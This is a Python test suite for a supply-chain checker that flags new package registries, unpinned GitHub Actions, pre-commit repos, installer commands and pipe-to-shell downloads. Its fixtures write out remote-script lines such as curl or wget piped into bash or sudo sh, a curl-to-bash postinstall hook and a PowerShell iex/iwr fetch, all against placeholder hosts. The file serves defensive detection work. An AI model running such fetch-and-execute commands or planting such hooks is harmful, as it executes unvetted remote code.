"""Other ways code comes in: package indexes, pre-commit hooks, GitHub
Actions, installer commands and downloads piped into a shell, end to end in
real git repositories."""
from __future__ import annotations

import json

from conftest import check_json, deadline

from guardrails.checks.dependency import sources

SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"


def hits(report, rule):
    return [f for f in report["findings"] if f["rule"] == rule]


def at(report, rule):
    return sorted((f["path"], f["line"]) for f in hits(report, rule))


# --- package indexes ------------------------------------------------------------

def test_new_indexes_in_python_files(repo):
    repo.commit({"requirements.txt": "--index-url https://pypi.org/simple\nrequests\n",
                 "pyproject.toml": '[project]\nname = "x"\ndependencies = []\n',
                 "Pipfile": '[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n\n[packages]\n'})
    repo.commit({
        "requirements.txt": "--index-url https://pypi.org/simple\n"
                            "--extra-index-url https://user:tok@pkgs.example.net/simple\nrequests\n",
        "pyproject.toml": '[project]\nname = "x"\ndependencies = []\n\n[[tool.uv.index]]\nname = "corp"\n'
                          'url = "https://uv.corp.example/simple"\n\n[[tool.poetry.source]]\nname = "p"\n'
                          'url = "https://poetry.corp.example/simple"\n',
        "Pipfile": '[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n\n[[source]]\n'
                   'url = "https://pipenv.corp.example/simple"\nname = "corp"\n\n[packages]\n',
        "pip.conf": "[global]\nextra-index-url = https://pipconf.example/simple\n",
    })
    report = check_json(repo, "--base", "HEAD~1")
    assert at(report, "dependency/new-package-index") == [
        ("Pipfile", 6), ("pip.conf", 2), ("pyproject.toml", 7), ("pyproject.toml", 11), ("requirements.txt", 2)]
    req = next(f for f in hits(report, "dependency/new-package-index") if f["path"] == "requirements.txt")
    assert "dependency confusion" in req["message"] and "tok" not in json.dumps(req)
    assert req["severity"] == "escalate"


def test_new_registries_for_npm_conda_cargo_ruby_maven(repo):
    repo.commit({".npmrc": "save-exact=true\n", "Gemfile": 'source "https://rubygems.org"\n',
                 "environment.yml": "channels:\n  - conda-forge\ndependencies:\n  - numpy\n"})
    repo.commit({
        ".npmrc": "save-exact=true\n@acme:registry=https://npm.acme.example/\nregistry=https://registry.npmjs.org/\n",
        ".yarnrc.yml": "npmRegistryServer: https://yarn.mirror.example\n",
        "Gemfile": 'source "https://rubygems.org"\nsource "https://gems.corp.example" do\n  gem "x"\nend\n',
        "environment.yml": "channels:\n  - conda-forge\n  - https://conda.corp.example/ch\ndependencies:\n  - numpy\n",
        ".cargo/config.toml": '[registries.corp]\nindex = "sparse+https://cargo.corp.example/index/"\n',
        "pom.xml": "<project><repositories><repository><id>c</id>\n<url>https://mvn.corp.example/r</url>"
                   "</repository></repositories></project>\n",
    })
    report = check_json(repo, "--base", "HEAD~1")
    assert at(report, "dependency/new-package-index") == [
        (".cargo/config.toml", 2), (".npmrc", 2), (".yarnrc.yml", 1), ("Gemfile", 2), ("environment.yml", 3),
        ("pom.xml", 2)]


def test_unchanged_and_default_indexes_are_quiet(repo):
    repo.commit({"requirements.txt": "--extra-index-url https://pkgs.example.net/simple\nrequests\n"})
    repo.commit({"requirements.txt": "# mirror\n--extra-index-url https://pkgs.example.net/simple/\nrequests\nflask\n",
                 ".npmrc": "registry=https://registry.npmjs.org/\n"})
    report = check_json(repo, "--base", "HEAD~1")
    assert hits(report, "dependency/new-package-index") == []


# --- pre-commit -------------------------------------------------------------------

PRE_COMMIT_OLD = """\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.4.4
    hooks:
      - id: ruff
"""

PRE_COMMIT_NEW = f"""\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.5.0
    hooks:
      - id: ruff
  - repo: https://github.com/someone/hooks
    rev: v1.0
    hooks:
      - id: check-things
  - repo: https://github.com/pre-commit/mirrors-mypy
    rev: {SHA}
    hooks:
      - id: mypy
        additional_dependencies: [types-requests, "pydantic>=2"]
  - repo: local
    hooks:
      - id: custom
        name: custom
        entry: python tools/custom.py
        language: python
        additional_dependencies:
          - leftpad-tools==0.1
"""


def test_pre_commit_new_repos_and_additional_dependencies(repo):
    repo.commit({".pre-commit-config.yaml": PRE_COMMIT_OLD})
    repo.commit({".pre-commit-config.yaml": PRE_COMMIT_NEW})
    report = check_json(repo, "--base", "HEAD~1")
    found = {f["line"]: f for f in hits(report, "dependency/new-pre-commit-repo")}
    assert sorted(found) == [6, 10, 14, 22]
    assert found[6]["details"] == {"repo": "https://github.com/someone/hooks", "rev": "v1.0", "rev_is_sha": False}
    assert "not a full commit SHA" in found[6]["message"]
    assert found[10]["details"]["rev_is_sha"] is True
    deps14 = [f["details"]["dependency"] for f in hits(report, "dependency/new-pre-commit-repo") if f["line"] == 14]
    assert sorted(deps14) == ["pydantic>=2", "types-requests"]
    assert found[22]["details"]["dependency"] == "leftpad-tools==0.1"


# --- GitHub Actions -------------------------------------------------------------------

WORKFLOW_OLD = """\
name: ci
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v3
"""

WORKFLOW_NEW = f"""\
name: ci
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v3
      - uses: actions/setup-python@v5
      - uses: someone/tool-action@main
      - uses: actions/cache@{SHA}
      - uses: ./.github/actions/local
      - uses: docker://alpine:3.19
      - uses: docker://alpine@sha256:4bcff63911fcb4448bd4fdacec207030997caf25e9bea4045fa6c8c44de311d1
  reuse:
    uses: org/shared/.github/workflows/build.yml@v1
"""


def test_unpinned_actions(repo):
    repo.commit({".github/workflows/ci.yml": WORKFLOW_OLD})
    repo.commit({".github/workflows/ci.yml": WORKFLOW_NEW,
                 "actions/setup/action.yml": "name: s\nruns:\n  using: composite\n  steps:\n"
                                             "    - uses: someone/other@v2\n"})
    report = check_json(repo, "--base", "HEAD~1")
    found = {(f["path"], f["line"]): f["details"]["uses"] for f in hits(report, "dependency/unpinned-action")}
    assert found == {
        (".github/workflows/ci.yml", 8): "actions/setup-python@v5",
        (".github/workflows/ci.yml", 9): "someone/tool-action@main",
        (".github/workflows/ci.yml", 12): "docker://alpine:3.19",
        (".github/workflows/ci.yml", 15): "org/shared/.github/workflows/build.yml@v1",
        ("actions/setup/action.yml", 5): "someone/other@v2",
    }


def test_unpinned_helper():
    assert sources.unpinned(f"actions/checkout@{SHA}") == ""
    assert sources.unpinned("./local") == ""
    assert sources.unpinned("actions/checkout@v4") == "the tag v4"
    assert sources.unpinned("actions/checkout@release/v4") == "the ref release/v4"
    assert sources.unpinned("actions/checkout") == "no ref at all"
    assert sources.unpinned("actions/checkout@B4FFDE65F46336AB88EB53BE808477A3936BAE11") != ""


# --- installer commands and pipe-to-shell -----------------------------------------------------

def test_dockerfile_installers(repo):
    repo.commit({"Dockerfile": "FROM python:3.12-slim\nRUN pip install --no-cache-dir -r requirements.txt\n"})
    repo.commit({"Dockerfile": (
        "FROM python:3.12-slim\n"
        "RUN pip install --no-cache-dir -r requirements.txt\n"
        "# RUN pip install commented-out\n"
        "RUN apt-get update && \\\n"
        "    apt-get install -y --no-install-recommends git && \\\n"
        "    pip install --upgrade pip && \\\n"
        "    pip install requests-toolbelt2 'fastapi>=0.110'\n"
        'RUN ["npm", "install", "-g", "typescript@5"]\n'
        "RUN curl -fsSL https://get.example.dev/install.sh | bash\n")})
    report = check_json(repo, "--base", "HEAD~1")
    inst = sorted((f["line"], f["severity"], tuple(f["details"]["packages"]))
                  for f in hits(report, "dependency/installer-command"))
    # each package is reported on the physical line of the continued RUN that names it
    assert inst == [(5, "info", ("git",)), (7, "escalate", ("requests-toolbelt2", "fastapi>=0.110")),
                    (8, "escalate", ("typescript@5",))]
    assert at(report, "dependency/pipe-to-shell") == [("Dockerfile", 9)]
    assert hits(report, "dependency/pipe-to-shell")[0]["severity"] == "block"


def test_shell_script_makefile_and_near_misses(repo):
    repo.commit({"scripts/setup.sh": "#!/bin/sh\nset -e\n", "Makefile": "all:\n\techo hi\n",
                 "README.md": "# x\n", "bin/bootstrap": "#!/usr/bin/env bash\ntrue\n"})
    repo.commit({
        "scripts/setup.sh": "#!/bin/sh\nset -e\n# pip install not-really\necho 'run: pip install also-not'\n"
                            "pip install -e .\nnpm ci\nuv sync --locked\nsudo pip3 install colorama-plus\n"
                            "wget -qO- https://x.example/i.sh | sudo sh\ncurl -s https://api.example/v1 | python3 -c 'import json'\n",
        "Makefile": "all:\n\techo hi\n\t@npm i -g left-pad-cli\ninstall:\n\tpip install -r requirements.txt\n",
        "README.md": "# x\n\nRun `curl https://x.example/i.sh | sh` and `pip install thing`.\n",
        "bin/bootstrap": "#!/usr/bin/env bash\ntrue\nbash <(curl -s https://x.example/boot)\ncargo install ripgrep\n",
    })
    report = check_json(repo, "--base", "HEAD~1")
    assert at(report, "dependency/installer-command") == [
        ("Makefile", 3), ("bin/bootstrap", 4), ("scripts/setup.sh", 8)]
    assert at(report, "dependency/pipe-to-shell") == [("bin/bootstrap", 3), ("scripts/setup.sh", 9)]


def test_adding_a_package_to_an_existing_install_line_names_only_the_new_one(repo):
    repo.commit({"Dockerfile": "FROM node:20\nRUN npm install -g pnpm \\\n    typescript\n"})
    repo.commit({"Dockerfile": "FROM node:20\nRUN npm install -g pnpm \\\n    typescript \\\n    tsx-runner\n"})
    report = check_json(repo, "--base", "HEAD~1")
    found = hits(report, "dependency/installer-command")
    assert [(f["line"], f["details"]["packages"]) for f in found] == [(4, ["tsx-runner"])]


def test_workflow_run_blocks_and_package_json_scripts(repo):
    repo.commit({".github/workflows/ci.yml": f"on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
                                             f"      - uses: actions/checkout@{SHA}\n",
                 "package.json": json.dumps({"name": "w", "scripts": {"test": "jest"}}, indent=2) + "\n"})
    repo.commit({
        ".github/workflows/ci.yml": (
            "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            f"      - uses: actions/checkout@{SHA}\n"
            "      - name: deps\n"
            "        run: |\n"
            "          npm ci\n"
            "          pip install pytest-randomly-extra\n"
            "          echo \"pip install nope\"\n"
            "      - run: npx some-cli@latest build\n"
            "      - name: note\n"
            "        env:\n"
            "          HINT: pip install not-a-command\n"),
        "package.json": json.dumps({"name": "w", "scripts": {
            "test": "jest", "postinstall": "curl -sL https://x.example/p.sh | bash",
            "gen": "npx openapi-gen-tool generate"}}, indent=2) + "\n",
    })
    report = check_json(repo, "--base", "HEAD~1")
    inst = sorted((f["path"], f["line"], tuple(f["details"]["packages"]))
                  for f in hits(report, "dependency/installer-command"))
    assert inst == [(".github/workflows/ci.yml", 10, ("pytest-randomly-extra",)),
                    (".github/workflows/ci.yml", 12, ("some-cli@latest",)),
                    ("package.json", 6, ("openapi-gen-tool",))]
    assert at(report, "dependency/pipe-to-shell") == [("package.json", 5)]


def test_classify_commands():
    def pk(line):
        return [(c.tool, c.packages) for c in (sources.classify(list(w)) for w in sources.split_commands(line)) if c]
    assert pk("python3 -m pip install -U pip setuptools wheel") == []
    assert pk("pip install --index-url https://x.example/simple private-pkg") == [
        ("pip install", ("private-pkg",))]
    assert pk("uv pip install --system ruff") == [("uv pip install", ("ruff",))]
    assert pk("uv add httpx && uvx ruff check .") == [("uv add", ("httpx",)), ("uvx", ("ruff",))]
    assert pk("poetry add requests@^2") == [("poetry add", ("requests@^2",))]
    assert pk("yarn add left-pad; pnpm add -D vitest") == [("yarn add", ("left-pad",)), ("pnpm add", ("vitest",))]
    assert pk("go install golang.org/x/tools/cmd/goimports@latest") == [
        ("go install", ("golang.org/x/tools/cmd/goimports@latest",))]
    assert pk("go get ./... && go mod tidy") == []
    assert pk("cargo install --path .") == []
    assert pk("gem install bundler -v 2.4.22") == [("gem install", ("bundler",))]
    assert pk("conda install -y -c pytorch pytorch") == [("conda install", ("pytorch",))]
    assert pk("pip install $EXTRA_PKGS") == []
    assert pk("pip install -e git+https://github.com/me/x.git#egg=x") == [
        ("pip install", ("git+https://github.com/me/x.git#egg=x",))]
    assert pk("echo pip install x | tee log") == []
    assert sources._pipe_to_shell("curl -fsSL https://x | sudo -E bash -s -- --yes")
    assert sources._pipe_to_shell('sh -c "$(curl -fsSL https://x/install.sh)"')
    assert sources._pipe_to_shell("iex (iwr https://x/install.ps1)")
    assert not sources._pipe_to_shell("curl -o install.sh https://x && sha256sum -c sums && sh install.sh")
    assert not sources._pipe_to_shell("curl -s https://api | jq .name")


def test_version_bump_of_an_installer_line_and_yaml_aliases(repo):
    repo.commit({".github/workflows/t.yml": "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
                                            "      - run: pip install pipenv==2023.1.1\n",
                 ".pre-commit-config.yaml": "repos: []\n"})
    repo.commit({".github/workflows/t.yml": "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
                                            "      - run: pip install pipenv==2024.0.1\n",
                 ".pre-commit-config.yaml": (
                     f"repos:\n  - repo: https://github.com/pre-commit/mirrors-mypy\n    rev: {SHA}\n    hooks:\n"
                     "      - id: mypy\n        additional_dependencies: &deps\n          - types-requests\n"
                     "      - id: mypy\n        alias: mypy-strict\n        additional_dependencies: *deps\n")})
    report = check_json(repo, "--base", "HEAD~1")
    assert hits(report, "dependency/installer-command") == []
    found = sorted((f["line"], f["details"].get("dependency", "")) for f in hits(report, "dependency/new-pre-commit-repo"))
    assert found == [(2, ""), (7, "types-requests")]


def test_installers_run_from_program_code(repo):
    repo.commit({"app/boot.py": "import subprocess\n", "web/setup.js": "const cp = require('child_process');\n",
                 "docs/guide.md": "x\n"})
    repo.commit({
        "app/boot.py": (
            "import os\nimport subprocess\nimport sys\n\n\ndef ensure():\n    try:\n        import foo  # noqa\n"
            "    except ImportError:\n        subprocess.check_call(\n"
            "            [sys.executable, '-m', 'pip', 'install', 'foo-helper'])\n"
            "    os.system('npm install -g left-pad')\n"
            "    subprocess.run(f'pip install {sys.argv[1]}', shell=True)\n"
            "    print('pip install not-run')\n"
            "    raise SystemExit('run: pip install also-not-run')\n"),
        "web/setup.js": ("const cp = require('child_process');\ncp.execSync('npm install colors-pro@1');\n"
                         "cp.spawn('npx', ['create-thing', '--yes']);\nconsole.log('npm install nope');\n"),
        "docs/guide.md": "x\n\n```\nsubprocess.run(['pip', 'install', 'docs-only'])\n```\n",
    })
    report = check_json(repo, "--base", "HEAD~1")
    found = sorted((f["path"], f["line"], tuple(f["details"]["packages"]))
                   for f in hits(report, "dependency/installer-command"))
    assert found == [("app/boot.py", 10, ("foo-helper",)), ("app/boot.py", 12, ("left-pad",)),
                     ("web/setup.js", 2, ("colors-pro@1",)), ("web/setup.js", 3, ("create-thing",))]


def test_hunks_only_diff_outside_a_repository(repo, tmp_path):
    from conftest import run_cli

    repo.commit({"requirements.txt": "flask==2.3.3\nrequests==2.31.0\nclick\n",
                 "Dockerfile": "FROM python:3.12\nRUN pip install -r requirements.txt\n",
                 ".github/workflows/ci.yml": f"on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
                                             f"      - uses: actions/checkout@{SHA}\n"})
    repo.commit({"requirements.txt": "--extra-index-url https://pkgs.example.net/simple\nflask\n"
                                     "requests==2.31.0\nclick\nleftpad-py\n",
                 "Dockerfile": "FROM python:3.12\nRUN pip install -r requirements.txt\nRUN pip install evil-helper\n",
                 ".github/workflows/ci.yml": f"on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
                                             f"      - uses: actions/checkout@{SHA}\n"
                                             f"      - uses: someone/action@v1\n"})
    patch = tmp_path / "change.patch"
    patch.write_text(repo.git("diff", "HEAD~1", "HEAD") + "\n")
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    res = run_cli(["check", "--format", "json", "--diff", str(patch)], cwd=outside)
    assert res.code in (0, 1), res.err
    report = res.json()
    assert report["stats"]["coverage"] == "hunks-only"
    assert at(report, "dependency/new-package-index") == [("requirements.txt", 1)]
    assert at(report, "dependency/installer-command") == [("Dockerfile", 3)]
    assert at(report, "dependency/unpinned-action") == [(".github/workflows/ci.yml", 7)]
    loose = hits(report, "dependency/version-loosened")
    assert [(f["line"], f["details"]["why"]) for f in loose] == [(2, "pin-dropped")]


def test_dockerfile_heredoc_run(repo):
    repo.commit({"Dockerfile": "FROM python:3.12\n"})
    repo.commit({"Dockerfile": "FROM python:3.12\nRUN <<EOF\nset -e\n# pip install commented\n"
                               "pip install heredoc-pkg\nEOF\nCOPY pip-install.txt /x\n"})
    report = check_json(repo, "--base", "HEAD~1")
    assert [(f["line"], f["details"]["packages"]) for f in hits(report, "dependency/installer-command")] == [
        (5, ["heredoc-pkg"])]


def test_new_git_submodule(repo):
    repo.commit({".gitmodules": '[submodule "docs/theme"]\n\tpath = docs/theme\n\turl = https://github.com/org/theme.git\n'})
    repo.commit({".gitmodules": '[submodule "docs/theme"]\n\tpath = docs/theme\n\turl = https://github.com/org/theme.git\n'
                                '[submodule "vendor/helper"]\n\tpath = vendor/helper\n'
                                '\turl = https://user:tok@github.com/someone/helper.git\n\tbranch = main\n'})
    report = check_json(repo, "--base", "HEAD~1")
    found = hits(report, "dependency/new-submodule")
    assert [(f["line"], f["details"]["url"], f["details"]["branch"]) for f in found] == [
        (6, "https://***@github.com/someone/helper.git", "main")]
    assert "tok" not in json.dumps(found)


def test_trusted_actions_and_allowed_indexes_settings(repo):
    from guardrails import change as change_mod
    from guardrails.model import Context, Options

    repo.commit({"README.md": "x\n"})
    repo.commit({".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
                                             "      - uses: actions/checkout@v4\n      - uses: someone/thing@v1\n",
                 "requirements.txt": "--extra-index-url https://pkgs.corp.example/simple/\n"
                                     "--extra-index-url https://other.example/simple\nflask\n"})
    cs = change_mod.from_revisions("HEAD~1", "HEAD", cwd=str(repo.path))

    def run(settings):
        found = sources.check(cs, Context(Options(), settings, lambda note: None))
        return sorted((f.rule, f.line) for f in found)

    assert run({}) == [("dependency/new-package-index", 1), ("dependency/new-package-index", 2),
                       ("dependency/unpinned-action", 6), ("dependency/unpinned-action", 7)]
    assert run({"trusted_actions": ["actions/*"], "allowed_indexes": ["https://pkgs.corp.example/"]}) == [
        ("dependency/new-package-index", 2), ("dependency/unpinned-action", 7)]


# --- new, pinned actions are shown (info); bumps are quiet ----------------------------

UV_BENCH_OLD = f"""\
name: bench
on: pull_request
jobs:
  benchmarks-walltime:
    runs-on: codspeed-macro
    steps:
      - name: "Checkout Branch"
        uses: actions/checkout@{SHA} # v6.0.1
      - name: "Install codspeed"
        uses: taiki-e/install-action@d850aa816998e5cf15f67a78c7b933f2a5033f8a # v2.63.3
      - run: cargo codspeed build --profile profiling -p uv-bench
"""

UV_BENCH_NEW = f"""\
name: bench
on: pull_request
jobs:
  benchmarks-walltime-build:
    runs-on: depot-ubuntu-22.04-arm-4
    steps:
      - name: "Checkout Branch"
        uses: actions/checkout@{SHA} # v6.0.1
      - run: tar -cvf benchmarks-walltime.tar target/codspeed
      - name: "Upload benchmark artifacts"
        uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
        with:
          name: benchmarks-walltime
  benchmarks-walltime-run:
    runs-on: codspeed-macro
    needs: benchmarks-walltime-build
    steps:
      - name: "Checkout Branch"
        uses: actions/checkout@{SHA} # v6.0.1
      - name: "Install codspeed"
        uses: taiki-e/install-action@0000000000000000000000000000000000000abc # v2.64.0
      - name: "Download benchmark artifacts"
        uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8
      - name: "Download again"
        uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8
      - uses: ./.github/actions/local-setup
  shared:
    uses: org/shared/.github/workflows/build.yml@1111111111111111111111111111111111111111
"""


def test_new_sha_pinned_actions_are_info_new_dependencies(repo):
    # After astral-sh/uv c43fb6103b: two SHA-pinned actions are new to bench.yml (other
    # workflows use them: upload-artifact at the same commit, download-artifact at another).
    repo.commit({".github/workflows/bench.yml": UV_BENCH_OLD,
                 ".github/workflows/build.yml": "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
                 "      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2\n",
                 ".github/workflows/publish.yml": "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
                 "      - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093 # v4.3.0\n"})
    repo.commit({".github/workflows/bench.yml": UV_BENCH_NEW})
    report = check_json(repo, "--base", "HEAD~1")
    new = [f for f in hits(report, "dependency/new-dependency") if f["details"]["ecosystem"] == "actions"]
    assert sorted((f["line"], f["details"]["package"], f["details"]["tag"], f["severity"]) for f in new) == [
        (11, "actions/upload-artifact", "v4.6.2", "info"),
        (23, "actions/download-artifact", "v4.1.8", "info"),
        (28, "org/shared/.github/workflows/build.yml", "", "info")]
    by_line = {f["line"]: f for f in new}
    up, down = by_line[11], by_line[23]
    assert up["details"]["version"] == "ea165f8d65b6e75b540449e92b4886f43607fa02"
    assert "actions/upload-artifact" in up["message"] and "ea165f8d65b6" in up["message"]
    assert "already use it at this commit" in up["message"]
    assert down["details"]["used_elsewhere_at"] == ["d3f86a106a0bac45b974a628896c90dbdf5c8093"]
    assert "use it at d3f86a106a0b" in down["message"]
    assert "reusable workflow" in by_line[28]["message"]
    # the bumped install-action SHA, the second download-artifact, checkout and the local
    # action are not new to the file; nothing is unpinned
    assert hits(report, "dependency/unpinned-action") == []
    assert report["verdict"] == "pass"


def test_pinning_an_action_already_used_and_a_tag_bump_are_quiet(repo):
    old = "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v3\n" \
          "      - uses: actions/setup-node@v3\n"
    repo.commit({".github/workflows/ci.yml": old})
    repo.commit({".github/workflows/ci.yml": old.replace("actions/checkout@v3", f"actions/checkout@{SHA}")
                 .replace("setup-node@v3", "setup-node@v4")})
    report = check_json(repo, "--base", "HEAD~1")
    assert [f for f in report["findings"] if f["details"].get("ecosystem") == "actions"] == []
    # moving to another tag is still a tag: unpinned-action says so, no new-dependency
    assert [f["details"]["uses"] for f in hits(report, "dependency/unpinned-action")] == ["actions/setup-node@v4"]


def test_new_action_in_a_new_workflow_and_the_ecosystems_setting(repo):
    repo.commit({".github/workflows/ci.yml": f"on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
                                             f"      - uses: actions/checkout@{SHA}\n"})
    # semgrep/semgrep-docs 1bca391c89: a new workflow file with a new, pinned action
    new_wf = (f"on:\n  workflow_dispatch:\njobs:\n  update:\n    runs-on: ubuntu-latest\n    steps:\n"
              f"      - uses: actions/checkout@{SHA}\n"
              "      - id: token\n"
              "        uses: actions/create-github-app-token@d72941d797fd3113feb6b93fd0dec494b13a2547 # v1\n"
              "        with:\n          private-key: ${{ secrets.APP_KEY }}\n")
    repo.commit({".github/workflows/update-help-command.yml": new_wf})
    report = check_json(repo, "--base", "HEAD~1")
    new = {f["line"]: f for f in hits(report, "dependency/new-dependency")}
    assert sorted((f["path"], line, f["details"]["package"]) for line, f in new.items()) == [
        (".github/workflows/update-help-command.yml", 7, "actions/checkout"),
        (".github/workflows/update-help-command.yml", 9, "actions/create-github-app-token")]
    # a new workflow lists every action it runs, saying which ones the repository already runs
    assert new[7]["details"]["used_elsewhere_at"] == [SHA] and "already use it" in new[7]["message"]
    assert new[9]["details"]["used_elsewhere_at"] == [] and "other workflows" not in new[9]["message"]
    repo.commit({".guardrails.yml": "dependency:\n  ecosystems: [pypi, npm]\n"})
    repo.commit({".github/workflows/update-help-command.yml": new_wf.replace(
        "# v1\n", "# v1\n      - uses: someone/else@v2\n      - uses: other/pinned@" + SHA + "\n")})
    report = check_json(repo, "--base", "HEAD~1")
    assert [f for f in report["findings"] if f["rule"] in ("dependency/unpinned-action", "dependency/new-dependency")] == []


def test_action_name():
    assert sources.action_name(f"Actions/Checkout@{SHA}") == "actions/checkout"
    assert sources.action_name("org/repo/sub/dir@v1") == "org/repo/sub/dir"
    assert sources.action_name("docker://alpine:3.19") == "docker://alpine"
    assert sources.action_name("docker://ghcr.io/x/y@sha256:abc") == "docker://ghcr.io/x/y"


# --- npm / yarn / pnpm in Dockerfiles --------------------------------------------------

ACR_OLD = """\
FROM continuumio/miniconda3:main
ENV DEBIAN_FRONTEND=noninteractive
RUN apt update
RUN apt install -y vim build-essential libssl-dev

COPY . /opt/auto-code-rover
WORKDIR /opt/auto-code-rover
RUN conda env create -f environment.yml
"""


def test_bare_npm_install_in_a_dockerfile(repo):
    # nus-apr/auto-code-rover 5dd410fb26: `RUN npm i` in the front-end folder was missed.
    repo.commit({"Dockerfile": ACR_OLD})
    repo.commit({"Dockerfile": ACR_OLD.replace(
        "COPY . /opt/auto-code-rover\n",
        "COPY . /opt/auto-code-rover\n\nWORKDIR /opt/auto-code-rover/demo_vis/front\n"
        "RUN apt install -y curl\nRUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \n"
        "RUN apt-get install nodejs -y\nRUN npm i\nRUN npm run build\n\n")})
    report = check_json(repo, "--base", "HEAD~1")
    inst = {f["line"]: f for f in hits(report, "dependency/installer-command")}
    assert sorted(inst) == [9, 11, 12]
    npm = inst[12]
    assert npm["severity"] == "info" and npm["details"]["action"] == "project"
    assert npm["details"]["workdir"] == "/opt/auto-code-rover/demo_vis/front"
    assert "npm ci" in npm["message"] and "/opt/auto-code-rover/demo_vis/front" in npm["message"]
    assert at(report, "dependency/pipe-to-shell") == [("Dockerfile", 10)]


def test_npm_installs_in_a_multi_line_run(repo):
    repo.commit({"Dockerfile": "FROM node:20-slim\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci\n"})
    repo.commit({"Dockerfile": (
        "FROM node:20-slim\n"
        "WORKDIR /app\n"
        "COPY package*.json ./\n"
        "RUN npm ci\n"
        "RUN apt-get update \\\n"
        "    && apt-get install -y --no-install-recommends git \\\n"
        "    && npm i -g pnpm@9 \\\n"
        "    && npm install --save left-pad@1.2 \\\n"
        "    && rm -rf /var/lib/apt/lists/*\n"
        "WORKDIR web\n"
        "RUN npm install && npm run build\n"
        "RUN yarn install --frozen-lockfile && pnpm install --frozen-lockfile && npm ci\n"
        "RUN npm install $EXTRA && npm install ./vendor/lib.tgz && npm run lint\n")})
    report = check_json(repo, "--base", "HEAD~1")
    inst = sorted((f["line"], f["severity"], f["details"]["action"], tuple(f["details"]["packages"]))
                  for f in hits(report, "dependency/installer-command"))
    assert inst == [(6, "info", "system", ("git",)), (7, "escalate", "install", ("pnpm@9",)),
                    (8, "escalate", "install", ("left-pad@1.2",)), (11, "info", "project", ())]
    bare = next(f for f in hits(report, "dependency/installer-command") if f["line"] == 11)
    assert bare["details"]["workdir"] == "/app/web"


def test_a_bare_install_already_in_the_file_is_not_new(repo):
    repo.commit({"scripts/build.sh": "#!/bin/sh\ncd web\nyarn\n",
                 "Dockerfile": "FROM node:20\nRUN npm install\n"})
    repo.commit({"scripts/build.sh": "#!/bin/sh\ncd web\nyarn\nyarn build\nyarn --version\n",
                 "Dockerfile": "FROM node:20\nRUN npm install --omit=dev\n"})
    report = check_json(repo, "--base", "HEAD~1")
    assert hits(report, "dependency/installer-command") == []


def test_classify_bare_project_installs():
    def kinds(line):
        return [(c.tool, c.action) for c in (sources.classify(list(w)) for w in sources.split_commands(line)) if c]
    assert kinds("npm i && npm install -g && yarn && pnpm install && bun install") == [
        ("npm i", "project"), ("npm install", "project"), ("yarn", "project"), ("pnpm install", "project"),
        ("bun install", "project")]
    assert kinds("npm ci; yarn install --immutable; bun install --frozen-lockfile; yarn --version") == []
    assert kinds("npm install . ; npm install $PKGS; yarn add") == []


def test_trusted_actions_and_allowed_indexes_come_from_the_policy(repo):
    """The two source settings are part of the validated policy."""
    workflow = (
        "name: ci\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n      - uses: someone/tool@v1\n"
    )
    repo.commit({
        ".guardrails.yml": (
            "dependency:\n  trusted_actions: [\"actions/*\"]\n"
            "  allowed_indexes: [\"https://pkgs.corp.example/\"]\n"
        ),
        "requirements.txt": "requests==2.32.3\n",
    })
    repo.commit({
        ".github/workflows/ci.yml": workflow,
        "requirements.txt": "--extra-index-url https://pkgs.corp.example/simple\nrequests==2.32.3\n",
    })
    report = check_json(repo, "--base", "HEAD~1")
    unpinned = [f["evidence"] for f in report["findings"] if f["rule"] == "dependency/unpinned-action"]
    assert unpinned == ["- uses: someone/tool@v1"]
    assert not [f for f in report["findings"] if f["rule"] == "dependency/new-package-index"]


def test_python_the_parser_cannot_hold_is_read_as_unparsable_not_an_error(tmp_path):
    """ast.parse raises MemoryError (its stack overflowing), not SyntaxError,
    on a long chain of operators, and RecursionError on a deep one: the run
    still ends 0/1 with the findings it would give for a file that does not
    parse, and the other files are read."""
    from conftest import run_cli

    def add(path, lines):
        return (f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
                f"@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{x}\n" for x in lines))

    hostile = {"stack": "pip install " * 1667, "unary": "- " * 10_000 + "x", "deep": "x = " + "1+" * 10_000 + "1"}
    for label, line in hostile.items():
        patch = (add("app/boot.py", ["import subprocess", line])
                 + add("setup.py", ["from setuptools import setup", line, "setup(install_requires=['x'])"])
                 + add("tools/get.py", ["import subprocess", "subprocess.run('pip install left-pad', shell=True)"]))
        assert len(patch) < 60_000  # in-process (a worker reports a MemoryError as a memory limit)
        (tmp_path / "p.diff").write_text(patch)
        res = run_cli(["check", "--format", "json", "--no-llm", "--diff", str(tmp_path / "p.diff")], cwd=tmp_path)
        assert res.code in (0, 1), (label, res.err)
        report = res.json()
        assert at(report, "dependency/installer-command") == [("tools/get.py", 2)], label
